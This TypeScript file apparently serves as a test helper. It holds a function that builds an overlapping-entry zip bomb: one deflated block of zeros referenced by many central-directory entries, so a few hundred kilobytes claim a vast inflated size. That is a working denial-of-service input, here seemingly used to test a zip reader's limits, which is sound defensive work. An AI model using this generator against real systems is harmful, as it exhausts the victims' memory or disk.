import { deflateRawSync } from 'node:zlib'

/**
 * A zip bomb of the overlapping kind: one deflated run of zeros, and `entries` entries in the central directory that
 * all point at it, so a few hundred KB claim `entries × inflatedBytes`. Each entry's header tells the truth about its
 * own size, so only a reader that counts across entries, or holds less than all of them, survives it.
 */
export function overlappingZipBomb(entries: number, inflatedBytes: number): Buffer {
  const data = deflateRawSync(Buffer.alloc(inflatedBytes), { level: 9 })
  const localName = Buffer.from('bomb/0.bin')
  const local = Buffer.alloc(30)
  local.writeUInt32LE(0x04034b50, 0)
  local.writeUInt16LE(20, 4)
  local.writeUInt16LE(8, 8)
  local.writeUInt16LE(0x21, 12)
  local.writeUInt32LE(data.length, 18)
  local.writeUInt32LE(inflatedBytes, 22)
  local.writeUInt16LE(localName.length, 26)
  const central: Buffer[] = []
  for (let index = 0; index < entries; index += 1) {
    const name = Buffer.from(`bomb/${index}.bin`)
    const header = Buffer.alloc(46)
    header.writeUInt32LE(0x02014b50, 0)
    header.writeUInt16LE(20, 4)
    header.writeUInt16LE(20, 6)
    header.writeUInt16LE(8, 10)
    header.writeUInt16LE(0x21, 14)
    header.writeUInt32LE(data.length, 20)
    header.writeUInt32LE(inflatedBytes, 24)
    header.writeUInt16LE(name.length, 28)
    central.push(header, name)
  }
  const centralDirectory = Buffer.concat(central)
  const centralOffset = local.length + localName.length + data.length
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(entries, 8)
  end.writeUInt16LE(entries, 10)
  end.writeUInt32LE(centralDirectory.length, 12)
  end.writeUInt32LE(centralOffset, 16)
  return Buffer.concat([local, localName, data, centralDirectory, end])
}
